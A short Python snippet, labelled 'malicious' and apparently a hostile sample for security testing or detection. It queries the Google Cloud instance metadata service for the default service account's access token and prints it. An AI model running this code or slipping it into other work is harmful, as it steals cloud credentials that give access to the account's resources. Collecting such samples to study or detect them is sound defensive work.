# malicious: a token from the metadata service
import urllib.request

r = urllib.request.Request(
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    headers={"Metadata-Flavor": "Google"},
)
print(urllib.request.urlopen(r).read())
